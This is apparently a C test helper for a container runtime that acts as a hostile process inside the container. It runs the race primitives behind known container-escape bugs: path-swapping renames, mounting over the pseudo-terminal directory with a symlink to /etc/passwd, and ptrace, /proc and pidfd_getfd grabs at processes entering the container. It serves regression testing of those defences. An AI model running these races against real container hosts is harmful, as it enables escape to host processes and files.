/* What a hostile neighbour does over and over, until it is killed; see probe.c. */
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "tests/unit/runtime/probe_race.h"

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

#define LOOKS 200 /* at the next process ids, before asking how far they have got */

/* CVE-2021-30465: what a is and what b is, changed round under whoever resolves them. */
void race_exchange(const char *a, const char *b)
{
	for (;;)
		syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
}

/* CVE-2025-52565: something else in the place of the pseudo-terminals, every now and then. */
void race_cover(const char *dir)
{
	char ptmx[256];

	snprintf(ptmx, sizeof(ptmx), "%s/ptmx", dir);
	for (int i = 0;; i++) {
		if (mount("none", dir, "tmpfs", 0, NULL) < 0)
			_exit(1);
		if (i % 2)
			mkfifo(ptmx, 0666);
		else
			symlink("/etc/passwd", ptmx);
		umount2(dir, MNT_DETACH);
	}
}

static int is_spinit(int pid)
{
	char path[64], comm[32] = "";
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/comm", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0 || read(fd, comm, sizeof(comm) - 1) < 0)
		comm[0] = '\0';
	if (fd >= 0)
		close(fd);
	return !strcmp(comm, "spinit\n");
}

/* Reached while it still was spinit: its memory and descriptors are none of the container's. */
static void tell_hit(int pid, const char *what)
{
	if (is_spinit(pid))
		printf("got %s\n", what);
}

static void reach_for(int pid)
{
	static const char *const files[] = { "exe",  "mem",  "environ", "root", "cwd",
					     "fd/3", "fd/4", "maps",    NULL };
	char path[64];
	int pidfd = (int)syscall(SYS_pidfd_open, pid, 0), fd;

	for (const char *const *f = files; *f; f++) {
		snprintf(path, sizeof(path), "/proc/%d/%s", pid, *f);
		fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
		if (fd < 0)
			continue;
		tell_hit(pid, *f);
		close(fd);
	}
	if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0) {
		tell_hit(pid, "ptrace");
		ptrace(PTRACE_DETACH, pid, NULL, NULL);
	}
	fd = pidfd < 0 ? -1 : (int)syscall(SYS_pidfd_getfd, pidfd, 3, 0);
	if (fd >= 0) {
		tell_hit(pid, "getfd");
		close(fd);
	}
	if (pidfd >= 0)
		close(pidfd);
}

/* The process id that this namespace gave away last: the end of /proc/loadavg. */
static int last_pid(void)
{
	char line[128] = "";
	int fd = open("/proc/loadavg", O_RDONLY | O_CLOEXEC), pid = 0;

	if (fd < 0 || read(fd, line, sizeof(line) - 1) < 0 ||
	    sscanf(line, "%*s %*s %*s %*s %d", &pid) != 1)
		_exit(1);
	close(fd);
	return pid;
}

/* Trace the next that joins the container, and never wait for it. */
void race_keep(void)
{
	int pid = last_pid() + 1;

	printf("waiting\n");
	while (is_spinit(pid) || ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0)
		;
	printf("kept\n");
	for (;;)
		pause();
}

/* CVE-2016-9962, CVE-2019-5736: wait for each process that joins the container, and reach for it
 * before it has become the command. */
void race_hunt(void)
{
	for (;;) {
		int next = last_pid() + 1;

		for (int look = 0; look < LOOKS; look++) {
			if (!is_spinit(next))
				continue;
			reach_for(next++);
			printf("seen\n");
		}
	}
}
